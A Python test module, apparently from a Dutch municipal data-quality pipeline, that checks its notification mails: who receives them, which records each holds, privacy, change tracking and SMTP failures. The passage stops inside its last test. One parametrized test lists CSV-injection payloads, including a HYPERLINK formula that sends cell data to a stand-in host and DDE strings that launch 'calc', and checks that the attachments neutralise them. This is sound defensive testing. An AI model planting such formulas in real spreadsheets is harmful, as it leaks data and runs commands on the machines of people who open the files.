"""The mails after a run, received by a real SMTP server on localhost (aiosmtpd).

Who gets a mail, to which addresses, with whose records; never an identifier
or a birth date; no mail when nothing changed since the last mail; what changed
since then; a server that is down is recorded, never raised.
"""

from __future__ import annotations

import copy
import datetime as dt
import re
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from aiosmtpd.controller import Controller

from regie.quality import contacten, scorecard_text, tasks
from regie.quality.catalogus import load_checks
from regie.warehouse import connect

from conftest import TEST_KEY
from privacy import hits_in_text, needles
from quality_support import (
    ADRES,
    LEVERING,
    PEILDATUM,
    Postbus,
    Route,
    free_port,
    identify,
    ingest,
    personen,
    scenario,
    write_landing,
    write_trajecten,
)

LV, VOORSCHOTEN, WASSENAAR, LEIDEN, OEGSTGEEST = "GM1916", "GM0626", "GM0629", "GM0546", "GM0579"
#: check code -> the Dutch name a mail shows (the code never appears in a mail)
NAAM = {c.code: c.naam for c in load_checks()}
BEREIK = {
    LV: {LV, VOORSCHOTEN, WASSENAAR},
    VOORSCHOTEN: {VOORSCHOTEN},
    WASSENAAR: {WASSENAAR},
    LEIDEN: {LEIDEN, OEGSTGEEST},
    OEGSTGEEST: {OEGSTGEEST},
}


@pytest.fixture
def postbus(monkeypatch):
    box = Postbus()
    port = free_port()
    controller = Controller(box, hostname="127.0.0.1", port=port)
    controller.start()
    monkeypatch.setenv("AIRFLOW_CONN_SMTP_DEFAULT", f"smtp://127.0.0.1:{port}?retry_limit=2&retry_delay=0")
    try:
        yield box
    finally:
        controller.stop()


def _contacten(path, codes=tuple(ADRES)) -> str:
    lines = ["afzender: 'regie <regie@example.nl>'", "gemeenten:"]
    lines += [f"  {c}: [{ADRES[c]}]" for c in codes]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return str(path)


@pytest.fixture(scope="module")
def run1(tmp_path_factory):
    """The scenario warehouse after run r1 (checks only; each test mails from its own copy)."""
    root = tmp_path_factory.mktemp("meldingen")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("REGIE_PSEUDONIEM_SLEUTEL", TEST_KEY)
        sc = scenario(root / "landing")
        ingest(root / "landing", root / "home", root / "wh.duckdb")
    tasks.check(
        {
            "warehouse": str(root / "wh.duckdb"),
            "home": str(root / "home"),
            "peildatum": PEILDATUM,
            "run_id": "r1",
        }
    )
    return sc, root


@pytest.fixture
def params(run1, tmp_path):
    _, root = run1
    shutil.copy(root / "wh.duckdb", tmp_path / "wh.duckdb")
    return {
        "warehouse": str(tmp_path / "wh.duckdb"),
        "home": str(tmp_path / "home"),
        "peildatum": PEILDATUM,
        "run_id": "r1",
        "contacten": _contacten(tmp_path / "contacten.yml"),
    }


def _meldingen(warehouse: str) -> list[tuple]:
    with connect(warehouse, read_only=True) as wh:
        return wh.query(
            "select gemeentecode, aan, status, pogingen, fout, bevindingen, gemeenten from audit.meldingen "
            "order by gemeentecode"
        )


def test_each_gemeente_gets_one_mail_at_its_own_addresses(params, postbus):
    result = tasks.notify(params, "r1")
    # GM9999, a delivery folder named after no gemeente, has its finding but no address
    assert result == {"verzonden": 5, "niet_afgeleverd": 0, "geen_adres": 1, "geen_melding": 0}
    assert sorted(a for m in postbus.berichten for a in m.aan) == sorted(ADRES.values())
    for code, adres in ADRES.items():
        (mail,) = postbus.voor(adres)
        assert mail.aan == [adres]
        assert mail.afzender == "regie@example.nl"
        assert f"({code})" in mail.onderwerp and "peildatum 25-02-2025" in mail.onderwerp
        assert list(mail.bijlagen()) == [f"bevindingen_{code}_2025-02-25.csv"]
    rows = _meldingen(params["warehouse"])
    assert [(r[0], r[2], r[3]) for r in rows] == [(c, "verzonden", 1) for c in sorted(ADRES)] + [
        ("GM9999", "geen_adres", 0)
    ]


def test_each_mail_holds_only_the_records_its_gemeente_may_read(params, postbus, run1):
    sc, _ = run1
    tasks.notify(params, "r1")
    for code, adres in ADRES.items():
        (mail,) = postbus.voor(adres)
        rows = mail.rijen()
        assert rows, code
        assert {r["gemeentecode"] for r in rows} <= BEREIK[code], code
        # every planted record of the gemeenten in its reach that it may read, and nothing else
        for r in rows:
            if r["gemeentecode"] != code:  # another gemeente's record: inburgering only
                assert r["controle"] not in (
                    NAAM["taakstelling_correctie"],
                    NAAM["gerealiseerd_wijkt_af_van_tvs"],
                ), r
        text = mail.tekst
        for other, naam in ((LEIDEN, "Leiden"), (LV, "Leidschendam-Voorburg")):
            if other not in BEREIK[code]:
                assert f"{other} {naam}" not in text
    lv_rows = postbus.voor(ADRES[LV])[0].rijen()
    assert {r["gemeentecode"] for r in lv_rows} == {LV, VOORSCHOTEN, WASSENAAR}
    assert "F-zroute_zonder_participatie" in {r["klantnummer"] for r in lv_rows}  # Wassenaar, executed by LV
    v_rows = postbus.voor(ADRES[VOORSCHOTEN])[0].rijen()
    assert {r["controle"] for r in v_rows} >= {NAAM["taakstelling_correctie"], NAAM["brp_zonder_pip"]}
    assert NAAM["taakstelling_correctie"] not in {
        r["controle"] for r in lv_rows if r["gemeentecode"] == VOORSCHOTEN
    }
    o_rows = postbus.voor(ADRES[OEGSTGEEST])[0].rijen()
    assert {r["klantnummer"] for r in o_rows if r["klantnummer"]} == {
        "F-pip_zonder_leerroute",
        "F-duo_combinatie_ongeldig-O_A2",
        "F-duo_combinatie_ongeldig-Z_B1",
    }
    # COA's doubled half year: no klantnummer, the half year names it; a trajectory of the
    # begeleiding provider for a person known by V-nummer only: soort, start and line name it
    assert sorted((r["controle"], r["kenmerk"]) for r in o_rows if not r["klantnummer"]) == sorted(
        [
            (NAAM["datum_in_toekomst"], "maatschappelijke begeleiding vanaf 10-03-2025, regel 19"),
            (NAAM["tvs_periode_dubbel"], "periode 2024-I"),
        ]
    )
    # a housed person without a dossier has no klantnummer: the COA household names the record
    w = [
        r
        for r in postbus.voor(ADRES[WASSENAAR])[0].rijen()
        if r["controle"] == NAAM["gehuisvest_zonder_dossier"]
    ]
    assert len(w) == 1 and w[0]["klantnummer"] == "" and w[0]["kenmerk"].startswith("huishouden HH")
    # the DUO line ingestion rejected counts against DUO, which no gemeente is mailed about
    assert all(
        "duo/" not in r["bestand"]
        for m in postbus.berichten
        for r in m.rijen()
        if r["controle"] == NAAM["afgewezen_rijen"]
    )


def test_no_identifier_birth_date_or_pseudonym_in_any_mail(params, postbus, run1):
    sc, _ = run1
    tasks.notify(params, "r1")
    ids, dates = needles(sc.identifiers, sc.birth_dates)
    assert postbus.berichten
    for mail in postbus.berichten:
        everything = mail.bericht.as_string() + mail.tekst + "".join(mail.bijlagen().values())
        assert hits_in_text(everything, ids, dates) == [], mail.onderwerp
        assert not re.search(r"[0-9a-f]{64}", everything)
        assert "persoon_id" not in everything


def _plat(text: str) -> str:
    """The text with every line break and run of spaces as one space (the mail wraps its lines)."""
    return " ".join(text.split())


def test_the_mail_says_what_each_check_means_and_what_blocks(params, postbus):
    tasks.notify(params, "r1")
    text = _plat(postbus.voor(ADRES[LEIDEN])[0].tekst)
    assert "Als uitvoerder ontvangt u ook de bevindingen over de inburgering van Oegstgeest." in text
    assert "GM0546 Leiden: score" in text
    # Oegstgeest's card in its uitvoerder's mail: the inburgering checks' counts, no score
    assert (
        "GM0579 Oegstgeest: de inburgering die u uitvoert" in text and "GM0579 Oegstgeest: score" not in text
    )
    assert "- Meer dan een open dossier voor een persoon: Voor deze persoon staan twee" in text
    assert "Dit is de eerste mail van regie aan u." in text


def test_no_mail_when_there_is_nothing_to_say(tmp_path, postbus, monkeypatch):
    monkeypatch.setenv("REGIE_PSEUDONIEM_SLEUTEL", TEST_KEY)
    clean = identify([p for p in personen() if p.klantnummer.startswith("OK-")])
    write_landing(tmp_path / "landing", clean, afwijzingen=False)
    ingest(tmp_path / "landing", tmp_path / "home", tmp_path / "wh.duckdb")
    p = {
        "warehouse": str(tmp_path / "wh.duckdb"),
        "home": str(tmp_path / "home"),
        "peildatum": PEILDATUM,
        "contacten": _contacten(tmp_path / "c.yml"),
    }
    for run in ("schoon-1", "schoon-2"):
        tasks.check({**p, "run_id": run})
        assert tasks.notify({**p, "run_id": run}, run)["geen_melding"] == 5
    assert postbus.berichten == []
    text = scorecard_text(p["warehouse"], "schoon-2")
    assert "GM0626 Voorschoten: score 100,0%; 0 afgekeurd" in text


def test_what_changed_since_the_previous_run(run1, tmp_path, postbus, monkeypatch):
    """Run 2: LV fixed the hours, but a route of another client lost its taalaanbieder; Oegstgeest's
    problems were all solved (a re-delivery of the same date: a new version of each file)."""
    sc, root = run1
    monkeypatch.setenv("REGIE_PSEUDONIEM_SLEUTEL", TEST_KEY)
    shutil.copytree(root, tmp_path / "r")
    base = tmp_path / "r"
    p = {
        "warehouse": str(base / "wh.duckdb"),
        "home": str(base / "home"),
        "peildatum": PEILDATUM,
        "contacten": _contacten(tmp_path / "c.yml"),
    }
    assert tasks.notify({**p, "run_id": "r1"}, "r1")["verzonden"] == 5  # the mails of run r1
    postbus.berichten.clear()
    people = copy.deepcopy(sc.personen)  # the module's scenario stays as it was
    by = {p.klantnummer: p for p in people}
    by["F-uren_buiten_bereik"].activiteiten[0].uren = "2000"
    by["F-pip_zonder_leerroute"].routes = [Route("B1", LEVERING.replace(month=1))]
    by["F-pip_zonder_leerroute"].duo_route, by["F-pip_zonder_leerroute"].duo_pip = ("B", "B1"), None
    by["F-duo_combinatie_ongeldig-O_A2"].duo_route = ("O", "B1")
    by["F-duo_combinatie_ongeldig-Z_B1"].duo_route = ("Z", None)
    by["OK-GM1916-2"].routes[0].taalaanbieder = None
    write_landing(
        base / "landing",
        people,
        gerealiseerd_extra={(WASSENAAR, "2024-I"): 1},
        correctie={(VOORSCHOTEN, "2024-II"): 3},
    )
    # the begeleiding provider corrects Oegstgeest's trajectory that started after the delivery
    write_trajecten(
        base / "landing", LEVERING, fouten=True, zonder=frozenset({"F-datum_in_toekomst-traject"})
    )
    ingest(base / "landing", base / "home", base / "wh.duckdb", run_id="r2")
    tasks.check({**p, "run_id": "r2"})
    result = tasks.notify({**p, "run_id": "r2"}, "r2")
    # Voorschoten and Wassenaar: nothing new since their mail of run r1 (GM9999 has no address)
    assert result == {"verzonden": 3, "niet_afgeleverd": 0, "geen_adres": 1, "geen_melding": 2}
    assert sorted(a for m in postbus.berichten for a in m.aan) == sorted(
        ADRES[c] for c in (LV, LEIDEN, OEGSTGEEST)
    )

    (lv,) = postbus.voor(ADRES[LV])
    assert "Uren buiten 0-2000: 1 -> 0" in _plat(lv.tekst)
    assert "Leerroute gestart zonder taalaanbieder: 1 -> 2" in _plat(lv.tekst)
    assert "Sinds de vorige mail: 1 nieuwe en 1 opgeloste bevindingen." in lv.tekst
    assert re.search(r"sinds onze vorige mail van \d\d-\d\d-\d{4}\.", _plat(lv.tekst))
    rows = {r["klantnummer"]: r for r in lv.rijen()}
    assert rows["OK-GM1916-2"]["nieuw"] == "ja"
    assert rows["F-leerroute_zonder_taalaanbieder"]["nieuw"] == "nee"
    assert "F-uren_buiten_bereik" not in rows

    (oeg,) = postbus.voor(ADRES[OEGSTGEEST])
    assert oeg.onderwerp.endswith("alle bevindingen opgelost")
    assert oeg.rijen() == []
    assert "PIP zonder leerroute: 1 -> 0" in _plat(oeg.tekst)
    assert "TVS: halfjaar meer dan eens in één levering: 1 -> 0" in _plat(oeg.tekst)  # COA's file too
    assert "5 opgeloste" in oeg.tekst

    text = scorecard_text(p["warehouse"], "r2")
    assert "vergeleken met run r1" in text
    assert re.search(r"Leerroute gestart zonder taalaanbieder\s+2 van\s+\d+\s+\(was 1\)", text)


def test_smtp_down_is_recorded_as_undelivered_and_does_not_fail(params, monkeypatch):
    port = free_port()  # nothing listens here
    monkeypatch.setenv("AIRFLOW_CONN_SMTP_DEFAULT", f"smtp://127.0.0.1:{port}?retry_limit=2&retry_delay=0")
    result = tasks.notify(params, "r1")
    assert result["niet_afgeleverd"] == 5 and result["verzonden"] == 0
    rows = [r for r in _meldingen(params["warehouse"]) if r[0] != "GM9999"]  # no address: not tried
    assert len(rows) == 5
    for gm, aan, status, pogingen, fout, n, _ in rows:
        assert status == "niet_afgeleverd"
        # the first mail gets every retry; once the server proved unreachable, the rest one attempt
        assert pogingen == (2 if gm == LEIDEN else 1), gm
        assert "Connection" in fout or "refused" in fout.lower()
        assert aan == ADRES[gm] and n > 0


def test_no_smtp_connection_configured_is_recorded_too(params, monkeypatch):
    monkeypatch.delenv("AIRFLOW_CONN_SMTP_DEFAULT", raising=False)
    result = tasks.notify(params, "r1")
    assert result["niet_afgeleverd"] == 5
    assert all("smtp_default ontbreekt" in r[4] for r in _meldingen(params["warehouse"]) if r[0] != "GM9999")


def test_a_gemeente_without_address_is_recorded(params, postbus, tmp_path):
    p = {**params, "contacten": _contacten(tmp_path / "zonder.yml", codes=(LV, LEIDEN, OEGSTGEEST))}
    result = tasks.notify(p, "r1")
    assert result == {"verzonden": 3, "niet_afgeleverd": 0, "geen_adres": 3, "geen_melding": 0}
    status = {r[0]: r[2] for r in _meldingen(p["warehouse"])}
    assert status[VOORSCHOTEN] == status[WASSENAAR] == "geen_adres"


def test_contacts_file_is_checked(tmp_path, monkeypatch):
    f = tmp_path / "c.yml"
    f.write_text(
        "gemeenten:\n  '1916': {naam: LV, aan: [a@lv.example.nl, b@lv.example.nl]}\n  GM0626: x@v.example.nl\n"
    )
    book = contacten.laad(f)
    assert book.adressen("GM1916") == ("a@lv.example.nl", "b@lv.example.nl")
    assert book.adressen("GM0626") == ("x@v.example.nl",)
    assert book.adressen("GM0629") == ()
    monkeypatch.setenv("REGIE_CONTACTEN", str(f))
    assert contacten.pad(None) == f.resolve()
    for bad, why in (
        ("gemeenten:\n  GM19: [a@b.nl]\n", "not a gemeentecode"),
        ("gemeenten:\n  GM1916: [geen-adres]\n", "not an e-mail address"),
        ("gemeenten: [1, 2]\n", "must map each gemeentecode"),
        ("antwoord_aan: geen adres\n", "line 1: 'geen adres' is not an e-mail address"),
        ("antwoord_aan: 'Team <a@b.nl'\n", "is not an e-mail address"),
        ("hersteltermijn_dagen: 0\n", "line 1: '0' is not a number of days from 1 to 365"),
        (
            "gemeenten:\n  GM1916: {aan: a@b.nl, hersteltermijn_dagen: twee}\n",
            "line 2: 'twee' is not a number",
        ),
        ("gemeenten:\n  GM1916: {aan: a@b.nl, termijn: 3}\n", "unknown key 'termijn' in GM1916"),
    ):
        f.write_text(bad)
        with pytest.raises(contacten.ContactenFout, match=why):
            contacten.laad(f)
    with pytest.raises(contacten.ContactenFout, match="does not exist"):
        contacten.laad(tmp_path / "nergens.yml")
    # Reply-To and deadline: the gemeente's own, else the file's; neither: none
    f.write_text(
        "antwoord_aan: 'Team data <vragen@regio.example.nl>'\nhersteltermijn_dagen: 14\ngemeenten:\n"
        "  GM1916: {aan: a@lv.example.nl, antwoord_aan: inburgering@lv.example.nl, hersteltermijn_dagen: 7}\n"
        "  GM0626: x@v.example.nl\n"
    )
    book = contacten.laad(f)
    assert (book.antwoord_aan("GM1916"), book.termijn("GM1916")) == ("inburgering@lv.example.nl", 7)
    assert (book.antwoord_aan("GM0626"), book.termijn("GM0626")) == (
        "Team data <vragen@regio.example.nl>",
        14,
    )
    f.write_text("gemeenten:\n  GM0626: x@v.example.nl\n")
    assert (contacten.laad(f).antwoord_aan("GM0626"), contacten.laad(f).termijn("GM0626")) == (None, None)


def test_the_example_contacts_file_is_valid():
    from conftest import ROOT

    book = contacten.laad(ROOT / "expectations" / "contacten.example.yml")
    assert set(book.gemeenten) == {LV, VOORSCHOTEN, WASSENAAR, LEIDEN, OEGSTGEEST}
    assert all(a.endswith("@example.nl") for c in book.gemeenten.values() for a in c.adressen)


def test_reach_comes_from_dim_gemeente_once_dbt_built_it(params):
    with connect(params["warehouse"]) as wh:
        assert contacten.uitvoering(wh, PEILDATUM) == {LV: {VOORSCHOTEN, WASSENAAR}, LEIDEN: {OEGSTGEEST}}
        wh.execute("create schema if not exists marts")
        wh.execute(
            "create table marts.dim_gemeente as select * from (values ('GM1916', 'GM1916'), ('GM0626', 'GM1916'), "
            "('GM0629', 'GM0629'), ('GM0546', 'GM0546'), ('GM0579', 'GM0546')) t(gemeentecode, uitvoerder_gemeentecode)"
        )
        # the dimension wins over the delivery folders: here Wassenaar executes its own inburgering
        assert contacten.uitvoering(wh, PEILDATUM) == {LV: {VOORSCHOTEN}, LEIDEN: {OEGSTGEEST}}
    assert contacten.mag_lezen(LV, VOORSCHOTEN, "inburgering", {LV: {VOORSCHOTEN}})
    assert not contacten.mag_lezen(LV, VOORSCHOTEN, "huisvesting", {LV: {VOORSCHOTEN}})
    assert not contacten.mag_lezen(VOORSCHOTEN, LV, "inburgering", {LV: {VOORSCHOTEN}})
    assert not contacten.mag_lezen(LV, None, "levering", {LV: {VOORSCHOTEN}})


# --- hostile records (issue 8) ------------------------------------------------------------


def test_a_record_goes_to_the_gemeente_that_delivered_it_whatever_its_woongemeente(params, postbus):
    """Leiden's own dossier V-buiten-uitvoering says woongemeente Voorschoten (which LV executes
    for): its findings go to Leiden, with a finding about the woongemeente itself, and to
    neither Voorschoten nor Leidschendam-Voorburg."""
    tasks.notify(params, "r1")

    def rijen(code):
        (mail,) = postbus.voor(ADRES[code])
        return [r for r in mail.rijen() if r["klantnummer"] == "V-buiten-uitvoering"]

    assert sorted((r["gemeentecode"], r["controle"]) for r in rijen(LEIDEN)) == [
        (LEIDEN, NAAM["pip_zonder_leerroute"]),
        (LEIDEN, NAAM["woongemeente_buiten_uitvoering"]),
    ]
    (finding,) = [r for r in rijen(LEIDEN) if r["controle"] == NAAM["woongemeente_buiten_uitvoering"]]
    assert finding["bevinding"] == "woongemeente GM0626 hoort niet bij de gemeenten van uitvoerder GM0546"
    assert rijen(VOORSCHOTEN) == [] and rijen(LV) == [] and rijen(OEGSTGEEST) == []
    # every municipal record in a mail was delivered by the recipient or by its uitvoerder
    from quality_support import UITVOERDER as uitvoerder_van

    for code, adres in ADRES.items():
        (mail,) = postbus.voor(adres)
        for r in mail.rijen():
            if r["bestand"].startswith("gemeente/"):
                assert r["bestand"].split("/")[1] in {code, uitvoerder_van[code]}, (code, r)


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|'/C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
    ],  # fmt: skip
)
def test_attachment_cells_that_a_spreadsheet_would_run_are_neutralised(value):
    """OWASP's advice on CSV injection: a leading single quote, every cell quoted."""
    import csv
    import io

    from regie.quality.meldingen import CSV_KOLOMMEN, _csv

    row = dict.fromkeys(CSV_KOLOMMEN, "")
    row.update(klantnummer=value, bevinding=value, kenmerk=value, regel=7)
    data = _csv([row]).decode("utf-8-sig")
    (parsed,) = list(csv.DictReader(io.StringIO(data, newline=""), delimiter=";"))
    for col in ("klantnummer", "bevinding", "kenmerk"):
        assert parsed[col] == "'" + value, col
    assert parsed["regel"] == "7"  # numbers stay numbers
    assert data.splitlines()[1].startswith('"')  # every cell quoted


# --- one mail per gemeente per change (issue 10) ------------------------------------------


def _ontvangers(postbus) -> list[str]:
    return sorted(a for m in postbus.berichten for a in m.aan)


def _zonder(result: dict) -> dict:
    return {k: v for k, v in result.items() if v}


def test_a_rerun_with_nothing_new_sends_nothing(params, postbus):
    assert tasks.notify(params, "r1")["verzonden"] == 5
    assert len(postbus.berichten) == 5
    # the same run again, then a new check run over the same deliveries: nothing new to say
    again = tasks.notify(params, "r1")
    assert again == {"verzonden": 0, "niet_afgeleverd": 0, "geen_adres": 1, "geen_melding": 5}
    tasks.check({**params, "run_id": "r1-opnieuw"})
    assert _zonder(tasks.notify({**params, "run_id": "r1-opnieuw"}, "r1-opnieuw")) == {
        "geen_adres": 1,
        "geen_melding": 5,
    }
    assert len(postbus.berichten) == 5


def test_a_new_finding_mails_each_gemeente_concerned_once(run1, tmp_path, postbus, monkeypatch):
    """A Voorschoten client's route loses its taalaanbieder in Leidschendam-Voorburg's export:
    Voorschoten (whose inburgeraar it is) and Leidschendam-Voorburg (its uitvoerder, whose
    klantnummer it is) get one mail each; nobody else gets one."""
    sc, root = run1
    monkeypatch.setenv("REGIE_PSEUDONIEM_SLEUTEL", TEST_KEY)
    shutil.copytree(root, tmp_path / "r")
    base = tmp_path / "r"
    p = {"warehouse": str(base / "wh.duckdb"), "home": str(base / "home"), "peildatum": PEILDATUM}
    p["contacten"] = _contacten(tmp_path / "c.yml")
    assert tasks.notify({**p, "run_id": "r1"}, "r1")["verzonden"] == 5
    postbus.berichten.clear()

    people = copy.deepcopy(sc.personen)
    next(x for x in people if x.klantnummer == "OK-GM0626-1").routes[0].taalaanbieder = None
    write_landing(tmp_path / "nieuw", people)
    leerroutes = f"gemeente/{LV}/{PEILDATUM}/leerroutes.csv"  # only this file is delivered again
    shutil.copy(tmp_path / "nieuw" / leerroutes, base / "landing" / leerroutes)
    ingest(base / "landing", base / "home", base / "wh.duckdb", run_id="r2")
    tasks.check({**p, "run_id": "r2"})
    result = tasks.notify({**p, "run_id": "r2"}, "r2")

    assert result == {"verzonden": 2, "niet_afgeleverd": 0, "geen_adres": 1, "geen_melding": 3}
    assert _ontvangers(postbus) == sorted([ADRES[VOORSCHOTEN], ADRES[LV]])
    for code in (VOORSCHOTEN, LV):
        (mail,) = postbus.voor(ADRES[code])
        (new,) = [r for r in mail.rijen() if r["nieuw"] == "ja"]
        assert (new["klantnummer"], new["controle"]) == (
            "OK-GM0626-1",
            NAAM["leerroute_zonder_taalaanbieder"],
        )
        assert new["klantnummer_van"] == "Leidschendam-Voorburg (GM1916)"
        assert "Sinds de vorige mail: 1 nieuwe en 0 opgeloste bevindingen." in _plat(mail.tekst)
    # and once only: mailing again is silent
    assert tasks.notify({**p, "run_id": "r2"}, "r2")["verzonden"] == 0
    assert len(postbus.berichten) == 2


def _signalen(warehouse: str, rows: list[tuple]) -> None:
    """marts.fct_signalen as dbt builds it (issue 10), with exactly ``rows``."""
    with connect(warehouse) as wh:
        wh.execute("create schema if not exists marts")
        wh.execute(
            "create or replace table marts.fct_signalen (gemeentecode varchar, peildatum date, signaal varchar, "
            "ernst varchar, waarde numeric(18, 2), drempel numeric(18, 2), sinds date, toelichting varchar, "
            "titel varchar, eenheid varchar)"
        )
        for row in rows:
            wh.execute("insert into marts.fct_signalen values (?, ?, ?, ?, ?, ?, ?, ?, ?, ?)", row)


PIP_TE_LAAT = (
    LEIDEN, PEILDATUM, "pip_termijn_verstreken", "urgent", 3, 0, "2025-01-01",
    "3 inburgeraars hebben meer dan tien weken na inschrijving in de BRP nog geen PIP.",
    "Inburgeraars zonder PIP na de wettelijke termijn", "personen",
)  # fmt: skip
ACHTERSTAND = (
    WASSENAAR, PEILDATUM, "achterstand_gestegen", "let_op", 4, 0, "2024-07-01",
    "De achterstand op de taakstelling is 4 hoger dan een half jaar eerder (2024-II).",
    "De achterstand in de huisvesting groeit", "personen",
)  # fmt: skip


def test_signals_are_in_the_same_mail_and_a_new_signal_mails_its_gemeente_once(params, postbus):
    _signalen(params["warehouse"], [PIP_TE_LAAT])
    assert tasks.notify(params, "r1")["verzonden"] == 5
    (leiden,) = postbus.voor(ADRES[LEIDEN])
    assert leiden.onderwerp.endswith(": 13 bevindingen, 1 signaal")
    text = _plat(leiden.tekst)
    assert (
        "SIGNALEN - Urgent: Inburgeraars zonder PIP na de wettelijke termijn (sinds 01-01-2025) "
        "3 inburgeraars hebben meer dan tien weken na inschrijving in de BRP nog geen PIP."
    ) in text
    assert "pip_termijn_verstreken" not in leiden.bericht.as_string()
    assert all("SIGNALEN" not in m.tekst for m in postbus.berichten if m is not leiden)  # Leiden's own

    postbus.berichten.clear()
    assert tasks.notify(params, "r1")["verzonden"] == 0  # nothing new
    _signalen(params["warehouse"], [PIP_TE_LAAT, ACHTERSTAND])
    assert _zonder(tasks.notify(params, "r1")) == {"verzonden": 1, "geen_adres": 1, "geen_melding": 4}
    (wassenaar,) = postbus.berichten
    assert wassenaar.aan == [ADRES[WASSENAAR]]
    assert "Let op: De achterstand in de huisvesting groeit (sinds 01-07-2024)" in _plat(wassenaar.tekst)

    # a changed value is no news; a signal that ends is
    postbus.berichten.clear()
    _signalen(params["warehouse"], [PIP_TE_LAAT, ACHTERSTAND[:4] + (5,) + ACHTERSTAND[5:]])
    assert tasks.notify(params, "r1")["verzonden"] == 0
    _signalen(params["warehouse"], [ACHTERSTAND])
    assert tasks.notify(params, "r1")["verzonden"] == 1
    (leiden,) = postbus.berichten
    assert leiden.aan == [ADRES[LEIDEN]]
    assert "Signaal niet meer van toepassing: Inburgeraars zonder PIP na de wettelijke termijn" in _plat(
        leiden.tekst
    )
    assert leiden.onderwerp.endswith(": 13 bevindingen")


class _Haperend(Postbus):
    """Accepts the first mails; holds the connection of mail number ``bij`` without answering."""

    def __init__(self, bij: int) -> None:
        super().__init__()
        self.bij, self.binnen, self.hangt = bij, 0, threading.Event()

    async def handle_DATA(self, server, session, envelope):  # noqa: N802 (aiosmtpd's name)
        import asyncio

        self.binnen += 1
        if self.binnen == self.bij:
            self.hangt.set()
            await asyncio.sleep(120)
            return "451 te laat"
        return await super().handle_DATA(server, session, envelope)


def test_a_run_killed_while_mailing_sends_no_duplicate_when_run_again(params, postbus, monkeypatch):
    """The mailing process is killed (SIGKILL) while the server holds its third mail: the
    rerun sends the three mails that were not delivered, and no gemeente gets two."""
    slow = _Haperend(bij=3)
    port = free_port()
    controller = Controller(slow, hostname="127.0.0.1", port=port)
    controller.start()
    env = {k: v for k, v in __import__("os").environ.items() if not k.startswith("AIRFLOW_CONN_")}
    env["AIRFLOW_CONN_SMTP_DEFAULT"] = f"smtp://127.0.0.1:{port}?retry_limit=1"
    code = "import json, sys; from regie.quality import tasks; tasks.notify(json.loads(sys.argv[1]), 'r1')"
    proc = subprocess.Popen([sys.executable, "-c", code, __import__("json").dumps(params)], env=env)
    try:
        assert slow.hangt.wait(180), "the third mail never reached the server"
    finally:
        proc.kill()
        proc.wait()
        controller.stop()
    assert _ontvangers(slow) == sorted([ADRES[LEIDEN], ADRES[OEGSTGEEST]])  # GM0546, GM0579 went out
    assert [(r[0], r[2]) for r in _meldingen(params["warehouse"])] == [
        (LEIDEN, "verzonden"),
        (OEGSTGEEST, "verzonden"),
    ]

    result = tasks.notify(params, "r1")
    assert result == {"verzonden": 3, "niet_afgeleverd": 0, "geen_adres": 1, "geen_melding": 2}
    assert _ontvangers(postbus) == sorted(ADRES[c] for c in (VOORSCHOTEN, WASSENAAR, LV))
    assert sorted(_ontvangers(slow) + _ontvangers(postbus)) == sorted(ADRES.values())  # each exactly once


def test_the_mail_is_html_with_text_reply_to_and_deadline(params, postbus, tmp_path):
    book = tmp_path / "c.yml"
    book.write_text(
        "afzender: 'regie <regie@example.nl>'\n"
        "antwoord_aan: 'Team data <vragen@regio.example.nl>'\n"
        "hersteltermijn_dagen: 14\n"
        "gemeenten:\n"
        + "".join(f"  {c}: [{ADRES[c]}]\n" for c in (LV, WASSENAAR, LEIDEN, OEGSTGEEST))
        + f"  {VOORSCHOTEN}:\n    aan: [{ADRES[VOORSCHOTEN]}]\n"
        "    antwoord_aan: inburgering@lv.example.nl\n    hersteltermijn_dagen: 21\n",
        encoding="utf-8",
    )
    tasks.notify({**params, "contacten": str(book)}, "r1")
    with connect(params["warehouse"], read_only=True) as wh:
        ((gecontroleerd_op,),) = wh.query(
            "select max(gecontroleerd_op) from marts.fct_registratiekwaliteit where run_id = 'r1'"
        )
    for code, adres in ADRES.items():
        (mail,) = postbus.voor(adres)
        msg = mail.bericht
        assert msg.get_content_type() == "multipart/mixed"
        alternative, bijlage = msg.get_payload()
        assert [x.get_content_type() for x in alternative.get_payload()] == ["text/plain", "text/html"]
        assert bijlage.get_content_type() == "text/csv" and bijlage.get_filename().startswith("bevindingen_")
        html = alternative.get_payload()[1].get_content()
        dagen, antwoord = (21, "inburgering@lv.example.nl") if code == VOORSCHOTEN else (14, None)
        assert msg["Reply-To"] == (antwoord or "Team data <vragen@regio.example.nl>")
        deadline = (gecontroleerd_op.date() + dt.timedelta(days=dagen)).strftime("%d-%m-%Y")
        assert f"herstel ze in uw eigen systeem vóór {deadline}." in _plat(mail.tekst), code
        assert f"vóór {deadline}" in html
        assert f"uw antwoord gaat naar {msg['Reply-To']}" in _plat(mail.tekst)
        # lines that fit a mail window, in the text; no check code anywhere a person reads
        assert max(len(line) for line in mail.tekst.splitlines()) <= 76, code
        for check in NAAM:
            # (the test's klantnummers are named after checks: F-brp_zonder_pip)
            text = mail.tekst + html + bijlage.get_content()
            assert not re.search(rf"(?<![-\w]){check}\b", text), (code, check)
        # nothing the HTML would fetch
        assert not re.search(r"(src|href)\s*=|https?://|<script|<link|@import", html, re.IGNORECASE), code
    # a commissioning gemeente sees whose klantnummers its records carry
    v = postbus.voor(ADRES[VOORSCHOTEN])[0]
    assert {r["klantnummer_van"] for r in v.rijen() if r["klantnummer"]} == {"Leidschendam-Voorburg (GM1916)"}
    assert (
        "klantnummer_van: Leidschendam-Voorburg (GM1916). Die organisatie voert de inburgering voor u uit"
        in _plat(v.tekst)
    )
    lv = postbus.voor(ADRES[LV])[0]
    assert {r["klantnummer_van"] for r in lv.rijen() if r["klantnummer"]} == {
        "Leidschendam-Voorburg (GM1916)"
    }
    assert "Het zijn uw eigen klantnummers." in _plat(lv.tekst)


def test_the_mail_shows_the_scorecards_figures(params, postbus):
    """Each gemeente's headline in its mail is its line on the scorecard; an uitvoerder sees the
    counts of the inburgering checks of the gemeenten it executes for, as on the scorecard,
    and no score of its own for them (once "99,6%; 2 van 14" against "99,7%; 2 van 18")."""
    tasks.notify(params, "r1")
    card = scorecard_text(params["warehouse"], "r1")
